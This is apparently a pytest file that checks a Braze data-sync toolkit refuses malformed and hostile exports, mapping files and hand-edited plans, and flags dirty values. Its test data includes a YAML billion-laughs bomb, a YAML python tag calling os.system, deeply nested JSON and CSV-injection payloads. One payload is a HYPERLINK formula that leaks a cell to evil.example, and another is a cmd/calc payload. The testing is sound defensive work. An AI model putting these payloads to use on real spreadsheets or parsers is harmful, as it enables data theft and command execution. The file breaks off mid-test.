"""Malformed and hostile inputs are refused clearly, quickly and without sending anything.

Every refused input runs the real pipeline — load → mapping → plan → approve → apply against a
sandbox — and must stop with a `ToolkitError` subclass that says where (file / line / column /
field / rule) and what, in under 5 s and a bounded Python heap, with the sandbox's request log
still empty. Inputs that are loadable but dirty (``$`` keys, 256-character values, mixed types,
duplicates, NaN/inf, dates out of range, CSV-injection text) must instead load, show findings,
and stay out of the plan: nothing Braze would refuse is ever sent.
"""
from __future__ import annotations

import gzip
import json
import random
import re
import time
import tracemalloc
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable

import pytest

import toolkit
from toolkit.braze.client import BrazeClient
from toolkit.errors import (ExportFormatError, MappingError, PlanAltered, PlanError,
                            PlanNotApproved, ToolkitError)
from toolkit.mapping import Mapping
from toolkit.sandbox.server import BrazeSandbox
from toolkit.sync.ledger import Ledger
from toolkit.sync.plan import Plan

from reliability_harness import plan_as_data, write_plan_data

MAX_SECONDS = 5.0
MAX_PEAK_BYTES = 256 * 1024 * 1024
SNAPSHOT = "2026-11-27T06:00:00Z"

GOOD_CSV = ("key,user_id,email,vip_customer,last_product_viewed_item,total_revenue_180_days\n"
            "use_1,u1,a@example.com,true,Blue Shirt,10.5\n"
            "use_2,u2,b@example.com,true,Red Shoes,99\n"
            "use_3,u3,c@example.com,false,Green Hat,12\n")


def _msg(user: str, key: str, value: Any, *, kind: str = "identify", klass: str = "trait") -> dict:
    bag = "traits" if kind == "identify" else "properties"
    out = {"type": kind, "userId": user, bag: {key: value}, "messageId": f"m-{user}-{key}",
           "timestamp": "2026-11-01T00:00:00Z",
           "context": {"personas": {"computation_key": key, "computation_class": klass}}}
    if kind == "track":
        out["event"] = "Audience Entered"
    return out


def _ndjson(*messages: dict) -> str:
    return "".join(json.dumps(m) + "\n" for m in messages)


# ---------------------------------------------------------------------------------------------
# the corpus of refused inputs


@dataclass
class Refused:
    """One input that must be refused: how to make it and what the error must say."""

    id: str
    make: Callable[[Path], dict]          # writes files; returns pipeline inputs
    error: type = ExportFormatError
    text: str = ""                         # regex the message must match
    where: dict = field(default_factory=dict)   # context attributes (True: equals the file)


def w(path: Path, data: "bytes | str") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    return path


def export(name: str, data: "bytes | str", **load_options) -> Callable[[Path], dict]:
    def make(tmp: Path) -> dict:
        return {"export": w(tmp / name, data), "load": load_options}
    return make


def mapping(text: "str | bytes") -> Callable[[Path], dict]:
    def make(tmp: Path) -> dict:
        return {"export": w(tmp / "shoppers.csv", GOOD_CSV),
                "load": {"computation_key": "shoppers"}, "mapping": w(tmp / "mapping.yml", text)}
    return make


def _million_columns(tmp: Path) -> dict:
    header = ",".join(f"c{i}" for i in range(1_000_000))
    return {"export": w(tmp / "wide.csv", "key,user_id," + header + "\nuse_1,u1\n"), "load": {}}


def _wide(tmp: Path) -> dict:
    n = 100_000
    return {"export": w(tmp / "wide.csv", "key,user_id," + ",".join(f"c{i}" for i in range(n))
                        + "\nuse_1,u1," + ",".join("1" for _ in range(n)) + "\n"), "load": {}}


def _many_keys(tmp: Path) -> dict:
    lines = (json.dumps(_msg("u1", f"k{i}", i)) + "\n" for i in range(20_000))
    return {"export": w(tmp / "events.ndjson", "".join(lines)), "load": {}}


def _huge_line(tmp: Path) -> dict:
    return {"export": w(tmp / "one_line.csv", b"key" + b"x" * (24 * 1024 * 1024)), "load": {}}


def _huge_ndjson_line(tmp: Path) -> dict:
    return {"export": w(tmp / "one_line.ndjson", b'{"type": "identify", "traits": "'
                        + b"y" * (24 * 1024 * 1024)), "load": {}}


def _binary(tmp: Path) -> dict:
    rng = random.Random(7)
    return {"export": w(tmp / "shoppers.csv", bytes(rng.randrange(256) for _ in range(65536))),
            "load": {}}


def _gzip_csv(tmp: Path) -> dict:
    return {"export": w(tmp / "shoppers.csv.gz", gzip.compress(GOOD_CSV.encode())), "load": {}}


def _gzip_damaged(tmp: Path) -> dict:
    data = gzip.compress(_ndjson(_msg("u1", "vip", True, klass="audience")).encode())
    return {"export": w(tmp / "events.ndjson.gz", data[:12] + b"\x00garbage" * 8), "load": {}}


def _lone_parquet(tmp: Path) -> dict:
    import pandas as pd

    path = tmp / "profile_traits.parquet"
    pd.DataFrame({"canonical_segment_id": ["use_1"], "vip": [True]}).to_parquet(path)
    return {"export": path, "load": {}}


def _empty_dir(tmp: Path) -> dict:
    (tmp / "exports").mkdir()
    w(tmp / "exports" / "README.md", "nothing here")
    return {"export": tmp / "exports", "load": {}}


def _missing(tmp: Path) -> dict:
    return {"export": tmp / "no_such_export.csv", "load": {}}


def _mapping_dir(tmp: Path) -> dict:
    (tmp / "mapping.yml").mkdir()
    return {"export": w(tmp / "shoppers.csv", GOOD_CSV), "load": {"computation_key": "shoppers"},
            "mapping": tmp / "mapping.yml"}


BILLION_LAUGHS = """\
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"""
BOMB_IN_RULES = BILLION_LAUGHS.replace("i: &i", "rules: &i")
BOMB_IN_FIELD = BILLION_LAUGHS + "version: 1\nrules:\n  - key: vip_customer\n    kind: audience\n" \
                                 "    attribute: *i\n"
RULE = "version: 1\nrules:\n  - key: vip_customer\n    kind: audience\n"

REFUSED: list[Refused] = [
    # -- files that are not an export at all
    Refused("empty", export("shoppers.csv", b""), text="empty", where={"file": True, "line": 1}),
    Refused("whitespace_only", export("shoppers.csv", "\n \r\n\t\n"), text="empty",
            where={"file": True}),
    Refused("binary", _binary, text="binary|UTF-8|not a readable", where={"file": True}),
    Refused("png_named_csv", export("shoppers.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" * 64),
            text="binary", where={"file": True}),
    Refused("utf16", export("shoppers.csv", GOOD_CSV.encode("utf-16")), text="UTF-16",
            where={"file": True, "line": 1}),
    Refused("latin1_row", export("shoppers.csv", (GOOD_CSV + "use_4,u4,d@example.com,true,Caf\xe9,1\n"
                                                  ).encode("latin-1")),
            text="not UTF-8", where={"file": True, "line": 5}),
    Refused("latin1_header", export("shoppers.csv", "key,user_id,caf\xe9\nuse_1,u1,x\n"
                                    .encode("latin-1")),
            text="not UTF-8", where={"file": True, "line": 1, "column": 16}),
    Refused("huge_single_line", _huge_line, text="longer than|too long|too many",
            where={"file": True}),
    Refused("million_column_header", _million_columns, text="longer than|too long|too many",
            where={"file": True}),
    Refused("hundred_thousand_columns", _wide, text="too many columns|at most",
            where={"file": True, "line": 1}),
    Refused("header_only", export("shoppers.csv", "key,user_id,email\n"), text="no rows",
            where={"file": True, "line": 2}),
    Refused("duplicate_columns", export("shoppers.csv", "key,user_id,Email,email\nuse_1,u1,a,b\n"),
            text="appears twice", where={"file": True, "line": 1, "column": 4}),
    Refused("unnamed_column", export("shoppers.csv", "key,,user_id\nuse_1,x,u1\n"),
            text="no name", where={"file": True, "line": 1, "column": 2}),
    Refused("ragged_row", export("shoppers.csv", GOOD_CSV + "use_4,u4,d@example.com,true,Hat,1,EXTRA\n"),
            text="expected 6 fields", where={"file": True, "line": 5}),
    Refused("unterminated_quote", export("shoppers.csv", GOOD_CSV + 'use_4,u4,"d@example.com,true\n'),
            text="quote opened on line 5 .* never closed", where={"file": True, "line": 5,
                                                                  "column": "email"}),
    Refused("unterminated_quote_runs_into_next_row",
            export("shoppers.csv", GOOD_CSV + 'use_4,u4,"d@example.com,true,Hat,1\n'
                                              "use_5,u5,e@example.com,true,Cap,2\n"),
            text="never closed", where={"file": True, "line": 5, "column": "email"}),
    Refused("unterminated_quote_swallows_later_rows",
            export("shoppers.csv", "key,note\nuse_1,ok\nuse_2,\"abc\nuse_3,x\nuse_4,y\n"),
            text="never closed", where={"file": True, "line": 3, "column": "note"}),
    Refused("unterminated_quote_at_end_of_file",
            export("shoppers.csv", GOOD_CSV + 'use_4,u4,d@example.com,true,Hat,"1'),
            text="never closed", where={"file": True, "line": 5,
                                        "column": "total_revenue_180_days"}),
    Refused("no_identifier_column", export("shoppers.csv", "first_name,score\nAna,1\n"),
            text="no identifier column", where={"file": True, "line": 1}),
    Refused("row_without_key", export("shoppers.csv", "key,user_id\nuse_1,u1\n,u2\n"),
            text="no profile key", where={"file": True, "line": 3, "column": "key"}),
    Refused("unnamable_file", export("2025-03-14.csv", GOOD_CSV), text="cannot tell",
            where={"file": True}),
    Refused("unknown_kind", export("shoppers.csv", GOOD_CSV, kind="xlsx"), text="unknown kind"),
    Refused("missing_file", _missing, text="not found", where={"file": True}),
    Refused("directory_without_exports", _empty_dir, text="no Engage export",
            where={"file": True}),
    Refused("lone_parquet", _lone_parquet, text="parquet", where={"file": True}),
    Refused("gzip_of_csv", _gzip_csv, text="gzip", where={"file": True}),
    Refused("gzip_damaged", _gzip_damaged, text="damaged", where={"file": True}),
    # -- JSON columns and JSON exports
    Refused("invalid_json_cell", export("vip.csv", 'key,external_ids\nuse_1,"{""user_id"": [""u1"""\n'),
            text="invalid JSON", where={"file": True, "line": 2, "column": "external_ids"}),
    Refused("json_cell_not_object", export("vip.csv", 'key,external_ids\nuse_1,"[""u1""]"\n'),
            text="JSON object", where={"file": True, "line": 2, "column": "external_ids"}),
    Refused("traits_not_object", export("vip.csv", 'key,external_ids,traits\n'
                                        'use_1,"{""user_id"": [""u1""]}",[1]\n'),
            text="JSON object", where={"file": True, "line": 2, "column": "traits"}),
    Refused("hashed_not_hex", export("vip.csv", "email\n" + ("A" * 64 + "\n") * 3 + "not-a-hash\n",
                                     kind="csv_hashed"),
            text="SHA-256", where={"file": True, "line": 5}),
    Refused("ndjson_invalid_line", export("events.ndjson", _ndjson(_msg("u1", "vip", True))
                                          + '{"type": "identify", "userId": u2}\n'),
            text="invalid JSON", where={"file": True, "line": 2}),
    Refused("ndjson_cut_off", export("events.ndjson", _ndjson(_msg("u1", "vip", True))
                                     + '{"type": "identify", "userId": "u2", "traits": {"vi'),
            text="cut off", where={"file": True, "line": 2}),
    Refused("json_array_unclosed", export("events.json", "[" + json.dumps(_msg("u1", "v", 1))
                                          + ",\n"),
            text="invalid JSON", where={"file": True}),
    Refused("ndjson_scalar_entry", export("events.ndjson", _ndjson(_msg("u1", "vip", True))
                                          + "42\n"),
            text="JSON object", where={"file": True, "line": 2}),
    Refused("json_top_level_string", export("events.json", '"hello"'), text="JSON object|no rows",
            where={"file": True}),
    Refused("batch_not_a_list", export("batch.json", '{"batch": {"type": "identify"}}'),
            text="'batch' must be a list of messages, found an object",
            where={"file": True, "field": "batch", "batch": 1}),
    Refused("batch_is_null", export("batch.json", '{"batch": null, "sentAt": "2026-01-01"}'),
            text="'batch' must be a list of messages, found null",
            where={"file": True, "field": "batch"}),
    Refused("ndjson_line_batch_not_a_list", export("events.ndjson", _ndjson(
        _msg("u1", "vip", True, klass="audience")) + '{"batch": "u2"}\n'),
            text="'batch' must be a list of messages, found text",
            where={"file": True, "line": 2, "field": "batch"}),
    Refused("batch_entry_not_object", export("batch.json", '{"batch": [1, 2]}'),
            text=r"batch entry is not a JSON object \(batch 1, message 1 is a number",
            where={"file": True, "field": "batch"}),
    Refused("no_engage_messages", export("events.ndjson", _ndjson(
        {"type": "track", "userId": "u1", "event": "Order Completed", "properties": {}})),
        text="no Engage", where={"file": True}),
    Refused("ndjson_utf16", export("events.ndjson", _ndjson(_msg("u1", "v", 1)).encode("utf-16")),
            text="UTF-16", where={"file": True}),
    Refused("json_nested_100k_deep", export("events.json", "[" * 100_000 + "]" * 100_000),
            text="nest|deep|invalid JSON", where={"file": True}),
    Refused("ndjson_line_nested_100k_deep", export("events.ndjson", _ndjson(_msg("u1", "v", 1))
                                                   + '{"x": ' + "[" * 100_000 + "]" * 100_000
                                                   + "}\n"),
            text="nest|deep|invalid JSON", where={"file": True, "line": 2}),
    Refused("ndjson_20k_computation_keys", _many_keys, text="too many computations",
            where={"file": True}),
    Refused("ndjson_huge_single_line", _huge_ndjson_line, text="invalid JSON|cut off",
            where={"file": True, "line": 1}),
    # -- mapping files
    Refused("yaml_unknown_top_field", mapping(RULE + "schedule: daily\n"), MappingError,
            "unknown field", {"file": True, "field": "schedule"}),
    Refused("yaml_unknown_rule_field", mapping(RULE + "    colour: red\n"), MappingError,
            "unknown field", {"file": True, "field": "colour", "rule": "vip_customer"}),
    Refused("yaml_billion_laughs", mapping(BILLION_LAUGHS), MappingError, "unknown field",
            {"file": True}),
    Refused("yaml_bomb_as_rules", mapping(BOMB_IN_RULES), MappingError, "unknown field|rule 1",
            {"file": True}),
    Refused("yaml_bomb_in_a_field", mapping(BOMB_IN_FIELD), MappingError, "unknown field|text",
            {"file": True}),
    Refused("yaml_python_tag", mapping("!!python/object/apply:os.system ['touch PWNED']\n"),
            MappingError, "YAML", {"file": True}),
    Refused("yaml_syntax", mapping("version: 1\nrules:\n  - key: [unclosed\n"), MappingError,
            "YAML", {"file": True}),
    Refused("yaml_not_a_mapping", mapping("- just\n- a list\n"), MappingError, "must be a mapping",
            {"file": True}),
    Refused("yaml_version_2", mapping(RULE.replace("version: 1", "version: 2")), MappingError,
            "version", {"file": True, "field": "version"}),
    Refused("yaml_rule_without_kind", mapping("version: 1\nrules:\n  - key: vip_customer\n"),
            MappingError, "no 'kind'", {"file": True, "field": "kind"}),
    Refused("yaml_dollar_attribute", mapping(RULE + "    attribute: $vip\n"), MappingError,
            r"\$", {"file": True, "rule": "vip_customer", "field": "attribute"}),
    Refused("yaml_256_char_attribute", mapping(RULE + f"    attribute: {'a' * 256}\n"),
            MappingError, "255", {"file": True, "rule": "vip_customer", "field": "attribute"}),
    Refused("yaml_reserved_attribute", mapping(RULE + "    attribute: external_id\n"),
            MappingError, "reserved|profile field|control key",
            {"file": True, "rule": "vip_customer", "field": "attribute"}),
    Refused("yaml_bad_send_as", mapping(RULE + "    send_as: sms\n"), MappingError, "send_as",
            {"file": True, "rule": "vip_customer", "field": "send_as"}),
    Refused("yaml_same_enter_exit", mapping(RULE + "    send_as: event\n    enter_event: X\n"
                                            "    exit_event: X\n"), MappingError, "both",
            {"file": True, "rule": "vip_customer", "field": "exit_event"}),
    Refused("yaml_list_value", mapping(RULE + "    attribute: [a, b]\n"), MappingError, "text",
            {"file": True, "field": "attribute"}),
    Refused("yaml_duplicate_rule", mapping(RULE + "  - key: vip_customer\n    kind: audience\n"),
            MappingError, "two rules", {"rule": "vip_customer"}),
    Refused("yaml_not_utf8", mapping(b"version: 1\nrules:\n  - key: vip\xff\xfe\n"), MappingError,
            "UTF-8|read", {"file": True}),
    Refused("yaml_binary", mapping(bytes(range(256)) * 16), MappingError, "UTF-8|YAML|read",
            {"file": True}),
    Refused("yaml_path_is_a_directory", _mapping_dir, MappingError, "directory|read|file",
            {"file": True}),
    Refused("mapping_json_nested_100k_deep",
            mapping('{"version": 1, "rules": ' + "[" * 100_000 + "]" * 100_000 + "}"),
            MappingError, "nested too deeply", {"file": True}),
    Refused("mapping_yaml_block_nested_3k_deep",
            mapping("rules:\n" + "".join("  " * i + "-\n" for i in range(3_000))),
            MappingError, "nested too deeply", {"file": True}),
    Refused("mapping_yaml_flow_nested_5k_deep",
            mapping("version: 1\nrules: " + "{a: " * 5_000 + "1" + "}" * 5_000 + "\n"),
            MappingError, "nested too deeply", {"file": True}),
    Refused("mapping_field_nested_50_deep", mapping(RULE + "    attribute: " + "[" * 50
                                                    + "]" * 50 + "\n"),
            MappingError, "must be text", {"file": True, "field": "attribute"}),
]


def run_pipeline(inputs: dict, sb: BrazeSandbox, tmp: Path) -> Any:
    """load → mapping → plan → approve → apply, as a scheduled run does."""
    client = BrazeClient.for_sandbox(sb, backoff=(0.01, 0.02), max_retries=0)
    try:
        exp = toolkit.load(inputs["export"], **inputs.get("load", {}))
        m = Mapping.load(inputs["mapping"]) if "mapping" in inputs else Mapping.from_export(exp)
        with Ledger(client, directory=tmp) as ledger:
            p = toolkit.plan(exp, m, ledger, workspace=client, create_users=True,
                             event_time=SNAPSHOT)
            p.approve(by="tester", expires_in="1h")
            path = p.save(tmp / "plan.json")
            report = toolkit.apply(path, client, ledger, progress=False)
        return exp, p, report
    finally:
        client.close()


def bounded(fn: Callable[[], Any]) -> tuple[Any, BaseException | None, float, int]:
    """Run ``fn``; (result, exception, seconds, tracemalloc peak bytes)."""
    tracemalloc.start()
    t0 = time.monotonic()
    result, error = None, None
    try:
        result = fn()
    except BaseException as exc:  # noqa: BLE001 - a raw exception is exactly what we look for
        error = exc
    seconds = time.monotonic() - t0
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return result, error, seconds, peak


@pytest.mark.parametrize("case", REFUSED, ids=[c.id for c in REFUSED])
def test_refused_clearly_quickly_and_without_sending(case: Refused, tmp_path: Path, monkeypatch):
    monkeypatch.chdir(tmp_path)   # a python tag that ran would leave ./PWNED here
    inputs = case.make(tmp_path)
    with BrazeSandbox(seed=3) as sb:
        _, error, seconds, peak = bounded(lambda: run_pipeline(inputs, sb, tmp_path))
        assert len(sb.request_log()) == 0, "a refused input must send nothing"
    assert error is not None, f"{case.id}: the input was accepted"
    assert isinstance(error, case.error), (
        f"{case.id}: expected {case.error.__name__}, got {type(error).__name__}: {error}")
    assert re.search(case.text, error.message, re.I), f"{case.id}: {error.message!r}"
    wanted_file = str(inputs.get("mapping") or inputs["export"])
    for name, expected in case.where.items():
        actual = getattr(error, name)
        if expected is True:
            assert actual is not None and Path(str(actual)) == Path(wanted_file), (
                f"{case.id}: error.{name} is {actual!r}, expected {wanted_file}")
        else:
            assert actual == expected, f"{case.id}: error.{name} is {actual!r}, not {expected!r}"
    assert seconds < MAX_SECONDS, f"{case.id}: took {seconds:.1f}s"
    assert peak < MAX_PEAK_BYTES, f"{case.id}: Python heap peaked at {peak / 1e6:.0f} MB"
    assert not (tmp_path / "PWNED").exists()
    # the error explains itself without a traceback: one line of what, and how to fix when known
    assert "Traceback" not in str(error) and len(str(error)) < 2000


# ---------------------------------------------------------------------------------------------
# hand-edited plan files: refused at apply, nothing sent


def _approved_plan(tmp: Path, sb: BrazeSandbox) -> tuple[Path, dict]:
    client = BrazeClient.for_sandbox(sb)
    exp = toolkit.load(w(tmp / "vip_customer.csv", GOOD_CSV))
    m = Mapping.from_export(exp).set("vip_customer", send_as="both")
    with Ledger(client, directory=tmp) as ledger:
        p = toolkit.plan(exp, m, ledger, workspace=client, create_users=True, event_time=SNAPSHOT)
    p.approve(by="tester", expires_in="1h")
    path = p.save(tmp / "plan.json")
    client.close()
    return path, plan_as_data(path)


def _edit_value(d):
    d["operations"]["value"][0] = '"edited"' if d["operations"]["value"][0] != '"edited"' else "1"


def _edit_uid(d):
    d["operations"]["uid"][0] = "external_id:someone_else"


def _add_op(d):
    for col in d["operations"]:
        d["operations"][col].append(d["operations"][col][-1])
    d["operations"]["uid"][-1] = "external_id:intruder"


def _drop_op(d):
    for col in d["operations"]:
        d["operations"][col].pop()


def _retarget(d):
    d["workspace"] = d["approval"]["workspace"] = "https://rest.iad-03.braze.com#deadbeef"


def _expired(d):
    d["approval"]["expires_at"] = "2020-01-01T00:00:00+00:00"


PLAN_EDITS: list[tuple[str, Callable[[dict], Any], type, str]] = [
    # an edited operations file: its bytes are not those the plan was saved with
    ("value_changed", _edit_value, PlanAltered, "not the one the plan was saved with"),
    ("uid_changed", _edit_uid, PlanAltered, "not the one the plan was saved with"),
    ("operation_added", _add_op, PlanError, "11 rows, the manifest says 10"),
    ("operation_removed", _drop_op, PlanError, "9 rows, the manifest says 10"),
    ("event_time_changed", lambda d: d["options"].update(event_time="2030-01-01T00:00:00.000Z"),
     PlanAltered, "changed"),
    ("create_users_flipped", lambda d: d["options"].update(create_users=False), PlanAltered,
     "changed"),
    ("ledger_version_changed", lambda d: d.update(ledger_version=d["ledger_version"] + 7),
     PlanAltered, "changed"),
    ("workspace_retargeted", _retarget, PlanAltered, "approval record was edited"),
    ("approval_removed", lambda d: d.update(approval=None), PlanNotApproved, "not approved"),
    # the approval record is sealed: moving its expiry either way by hand is an alteration
    ("approval_expiry_shortened", _expired, PlanAltered, "approval record was edited"),
    ("approval_expiry_extended",
     lambda d: d["approval"].update(expires_at="2099-01-01T00:00:00+00:00"), PlanAltered,
     "approval record was edited"),
    ("approver_renamed", lambda d: d["approval"].update(by="someone else"), PlanAltered,
     "approval record was edited"),
    ("op_kind_unknown", lambda d: d["operations"]["op"].__setitem__(0, "purchase"), PlanError,
     "operations.op"),
    ("value_not_json", lambda d: d["operations"]["value"].__setitem__(0, "{not json"), PlanError,
     "operations.value"),
    ("column_missing", lambda d: d["operations"].pop("uid"), PlanError, "operations.uid"),
    ("row_count_edited", lambda d: d.update(rows=d["rows"] + 1), PlanError, "different lengths"),
    ("batch_size_1000", lambda d: d["options"].update(batch_size=1000), PlanError,
     "options.batch_size"),
    ("not_a_plan", lambda d: d.update(format="something-else"), PlanError, "format"),
    ("approval_garbled", lambda d: d.update(approval={"by": "me"}), PlanError, "approval"),
]


@pytest.mark.parametrize("edit,error,text", [e[1:] for e in PLAN_EDITS],
                         ids=[e[0] for e in PLAN_EDITS])
def test_hand_edited_plan_is_refused(tmp_path, edit, error, text):
    with BrazeSandbox(seed=5) as sb:
        path, data = _approved_plan(tmp_path, sb)
        edit(data)
        write_plan_data(path, data)
        client = BrazeClient.for_sandbox(sb)
        with pytest.raises(error) as info:
            toolkit.apply(path, client, progress=False)
        client.close()
        assert len(sb.request_log()) == 0
    assert re.search(text, str(info.value)), str(info.value)
    if isinstance(info.value, PlanError) and not isinstance(info.value, PlanNotApproved):
        assert info.value.file in (str(path), str(Plan.files_for(path)[1]))


@pytest.mark.parametrize("damage", [
    lambda t: t[: len(t) // 2],                                  # cut off mid-write
    lambda t: "\x00" * 64 + t,                                   # garbage in front
    lambda t: "",                                                # empty
    lambda t: '{"format": ' + "[" * 100_000 + "]" * 100_000 + "}",   # nested past recursion
], ids=["truncated", "garbage_prefix", "empty", "nested_100k_deep"])
def test_damaged_plan_file_names_the_file(tmp_path, damage):
    with BrazeSandbox(seed=5) as sb:
        path, _ = _approved_plan(tmp_path, sb)
        path.write_text(damage(path.read_text()))
        client = BrazeClient.for_sandbox(sb)
        with pytest.raises(PlanError) as info:
            toolkit.apply(path, client, progress=False)
        client.close()
        assert len(sb.request_log()) == 0
    assert info.value.file == str(path)


# ---------------------------------------------------------------------------------------------
# loadable but dirty: findings, excluded from the plan, the rest still syncs


def _sync(tmp: Path, path: Path, *, mapping_changes: dict | None = None, **load_options):
    """Load, map (defaults), plan and apply against a fresh sandbox; returns what happened."""
    with BrazeSandbox(seed=9) as sb:
        client = BrazeClient.for_sandbox(sb)
        exp = toolkit.load(path, **load_options)
        m = Mapping.from_export(exp)
        for key, changes in (mapping_changes or {}).items():
            m = m.set(key, **changes)
        with Ledger(client, directory=tmp) as ledger:
            p = toolkit.plan(exp, m, ledger, workspace=client, create_users=True,
                             event_time=SNAPSHOT)
            p.approve(by="tester", expires_in="1h")
            report = toolkit.apply(p, client, ledger, progress=False)
        profiles, events = sb.profiles(), sb.events()
        client.close()
    return exp, p, report, profiles, events


def _sent_values(p, name: str) -> list:
    ops = p.operations
    return [json.loads(v) for v in ops.loc[ops["name"] == name, "value"]]


def test_dollar_key_is_a_finding_and_left_out(tmp_path):
    path = w(tmp_path / "shoppers.csv", "key,user_id,$revenue,score\nuse_1,u1,5,1\nuse_2,u2,6,2\n")
    exp, p, report, profiles, _ = _sync(tmp_path, path, computation_key="shoppers")
    assert [f.column for f in exp.findings.of("invalid_key")] == ["$revenue"]
    assert "$revenue" not in set(p.operations["name"]) and "$revenue" not in profiles.columns
    assert _sent_values(p, "score") == [1, 2] and report.ok


def test_key_longer_than_255_is_a_finding_and_left_out(tmp_path):
    long_key = "k" * 256
    path = w(tmp_path / "shoppers.csv", f"key,user_id,{long_key},score\nuse_1,u1,5,1\n")
    exp, p, report, profiles, _ = _sync(tmp_path, path, computation_key="shoppers")
    assert exp.findings.of("invalid_key")
    assert long_key not in set(p.operations["name"]) and report.ok


def test_256_char_values_are_findings_and_left_out(tmp_path):
    long = "x" * 256
    path = w(tmp_path / "shoppers.csv",
             f"key,user_id,note\nuse_1,u1,{long}\nuse_2,u2,{'y' * 255}\nuse_3,u3,short\n")
    exp, p, report, profiles, _ = _sync(tmp_path, path, computation_key="shoppers")
    assert [(f.row, f.column) for f in exp.findings.of("long_string")] == [(1, "note")]
    assert long not in _sent_values(p, "note")
    assert sorted(_sent_values(p, "note")) == sorted(["y" * 255, "short"])
    left = p.left_out[p.left_out["rule"] == "note"]
    assert list(left["segment_id"]) == ["use_1"]
    assert long not in set(profiles["note"].dropna()) and report.ok


def test_256_char_event_property_is_left_out(tmp_path):
    long = "z" * 256
    path = w(tmp_path / "shoppers.csv", f"key,user_id,note\nuse_1,u1,{long}\nuse_2,u2,ok\n")
    exp, p, report, _, events = _sync(tmp_path, path, computation_key="shoppers",
                                      mapping_changes={"note": {"send_as": "event"}})
    assert all(long not in v for v in p.operations["value"])
    assert len(events) == 1 and events["properties"].iloc[0]["note"] == "ok"
    assert p.findings.of("string_too_long") or p.findings.of("invalid_value")


def test_mixed_types_are_findings_and_only_the_column_type_is_sent(tmp_path):
    path = w(tmp_path / "shoppers.csv", "key,user_id,score\nuse_1,u1,5\nuse_2,u2,abc\n"
                                        "use_3,u3,true\nuse_4,u4,7\nuse_5,u5,9\n")
    exp, p, report, profiles, _ = _sync(tmp_path, path, computation_key="shoppers")
    drift = exp.findings.of("type_drift")
    assert sorted(f.row for f in drift) == [2, 3] and {f.column for f in drift} == {"score"}
    assert sorted(_sent_values(p, "score")) == [5, 7, 9] and report.ok


def test_duplicate_rows_and_shared_user_ids_are_findings_and_sent_once(tmp_path):
    path = w(tmp_path / "shoppers.csv", "key,user_id,score\nuse_1,u1,5\nuse_1,u1,6\nuse_2,u1,7\n"
                                        "use_3,u3,1\n")
    exp, p, report, profiles, _ = _sync(tmp_path, path, computation_key="shoppers")
    assert exp.findings.of("duplicate_profile") and exp.findings.of("duplicate_user_id")
    ops = p.operations
    assert not ops.duplicated(["uid", "field"]).any()
    assert set(p.left_out["code"]) >= {"shared_identifier"}
    # one rule, said out loud: the later row wins, and the values that disagree are named
    shared = p.findings.of("shared_identifier")[0].message
    assert "use_1" in shared and "loses to use_2" in shared and "score" in shared, shared
    assert len(profiles) == 2 and report.ok


@pytest.mark.parametrize("cell", ["1e999", "-1e999"])
def test_infinite_number_in_csv_is_a_finding_not_a_crash(tmp_path, cell):
    path = w(tmp_path / "shoppers.csv", f"key,user_id,revenue\nuse_1,u1,{cell}\nuse_2,u2,5\n"
                                        "use_3,u3,7\n")
    exp, p, report, profiles, _ = _sync(tmp_path, path, computation_key="shoppers")
    assert sorted(_sent_values(p, "revenue")) == [5, 7]
    assert "use_1" in set(p.left_out["segment_id"]) or exp.findings.of(severity="warning")
    assert report.ok


def test_nan_and_infinity_in_ndjson_are_findings_not_a_crash(tmp_path):
    lines = [json.dumps(_msg("u1", "revenue", 5)), json.dumps(_msg("u4", "revenue", 8))]
    lines += ['{"type":"identify","userId":"%s","traits":{"revenue":%s},"timestamp":'
              '"2026-11-01T00:00:00Z","context":{"personas":{"computation_key":"revenue",'
              '"computation_class":"trait"}}}' % (u, lit)
              for u, lit in (("u2", "Infinity"), ("u3", "NaN"), ("u5", "1e400"),
                             ("u6", "-Infinity"))]
    path = w(tmp_path / "events.ndjson", "\n".join(lines) + "\n")
    exp, p, report, profiles, _ = _sync(tmp_path, path,
                                        mapping_changes={"revenue": {"send_as": "both"}})
    assert sorted(_sent_values(p, "revenue")) == [5, 8]
    assert all("Infinity" not in v and "NaN" not in v for v in p.operations["value"])
    assert report.ok


@pytest.mark.parametrize("value", ["0001-01-01T00:00:00Z", "2300-01-01T00:00:00Z",
                                   "9999-12-31T23:59:59Z", "1600-02-29"])
def test_dates_out_of_range_are_findings_not_a_crash(tmp_path, value):
    path = w(tmp_path / "shoppers.csv", f"key,user_id,last_order_at\nuse_1,u1,{value}\n"
                                        "use_2,u2,2024-01-01T00:00:00Z\n"
                                        "use_3,u3,2025-06-30T12:00:00Z\n")
    exp, p, report, profiles, _ = _sync(tmp_path, path, computation_key="shoppers")
    bad = exp.findings.of("invalid_date")
    assert [(f.row, f.column) for f in bad] == [(1, "last_order_at")]
    assert len(_sent_values(p, "last_order_at")) == 2 and report.ok


def test_smart_quotes_in_json_cells_are_repaired_and_noted(tmp_path):
    path = w(tmp_path / "vip_customer.csv",
             "key,external_ids\nuse_1,{\u201cuser_id\u201d: [\u201cu1\u201d]}\n"
             "use_2,\"{\"\"user_id\"\": [\"\"u2\"\"]}\"\n")
    exp, p, report, profiles, _ = _sync(tmp_path, path)
    assert exp.findings.of("repaired_quotes")
    assert sorted(profiles["external_id"]) == ["u1", "u2"] and report.ok


INJECTIONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+SUM(1+1)*cmd|' /C calc'!A0",
              "-2+3", "@SUM(A1:A9)", "=1+1\t", "\t=cmd"]


def test_csv_injection_text_is_kept_as_data_and_never_evaluated(tmp_path):
    rows = "".join(f'use_{i},u{i},"{v.replace(chr(34), chr(34) * 2)}"\n'
                   for i, v in enumerate(INJECTIONS))
